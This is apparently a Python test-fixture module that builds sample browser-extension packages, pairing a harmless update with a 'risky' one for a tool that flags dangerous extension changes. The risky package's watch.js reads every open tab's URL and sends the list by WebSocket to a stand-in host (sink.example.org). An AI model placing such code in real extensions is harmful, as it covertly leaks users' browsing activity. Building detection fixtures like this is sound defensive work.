"""Small packages written for the tests."""
import json

# A panel that shows how wide the page is. One update only rewords it; the other also watches the open tabs.
_PANEL = "<main><output class='width'></output></main><script src='panel.js'></script>"
_SCRIPT = """const edge = (box) => box.right - box.left;
window.addEventListener("resize", () => {
  document.title = String(edge(document.body.getBoundingClientRect()));
});
"""
_WATCHER = """function report(open) {
  const line = new WebSocket("wss://sink.example.org:9443/in");
  line.onopen = () => line.send(open.map((tab) => tab.url).join());
}
setInterval("tick()", 1000);
chrome.tabs.query({}).then(report);
"""


def _manifest(version, permissions, hosts=(), **more):
    return json.dumps({"manifest_version": 3, "name": "Ruler", "version": version, "permissions": permissions, "host_permissions": list(hosts), **more})


PACKAGES = {
    "plain-1": {"manifest.json": _manifest("3.1", ["idle"]), "panel.html": _PANEL, "panel.js": _SCRIPT},
    "plain-2": {
        "manifest.json": _manifest("3.2", ["idle"]),
        "panel.html": _PANEL.replace("<main>", "<main title='width'>"),
        "panel.js": "/* the width of the page */\n" + _SCRIPT,
    },
    "risky-1": {"manifest.json": _manifest("3.1", ["idle"], ["https://ruler.example/*"]), "panel.html": _PANEL, "panel.js": _SCRIPT},
    "risky-2": {
        "manifest.json": _manifest("4.0", ["scripting", "idle", "tabs"], ["https://ruler.example/*", "*://*/*"], background={"service_worker": "watch.js"}),
        "panel.html": _PANEL,
        "panel.js": _SCRIPT,
        "watch.js": _WATCHER,
    },
}
PAIRS = [("plain", "ext-plain", "plain-1", "plain-2"), ("risky", "ext-risky", "risky-1", "risky-2")]


def files(spark, packages=None):
    import hashlib

    rows = []
    for package_id, content in (packages or PACKAGES).items():
        for path, text in content.items():
            raw = text.encode() if isinstance(text, str) else text
            name = path.rsplit("/", 1)[-1]
            ext = "." + name.rsplit(".", 1)[1].lower() if "." in name else ""
            rows.append((package_id, path, len(raw), hashlib.sha256(raw).hexdigest(), ext, raw.decode("utf-8", "ignore")))
    return spark.createDataFrame(rows, "package_id string, path string, size bigint, sha256 string, ext string, content string")


def pairs(spark, rows=None):
    return spark.createDataFrame(rows or PAIRS, "pair_id string, extension_id string, old_package_id string, new_package_id string")


def package(script="", manifest=None, **more):
    """One-script package."""
    return {"manifest.json": json.dumps(manifest or {"manifest_version": 3, "name": "T", "version": "1"}), "main.js": script, **more}
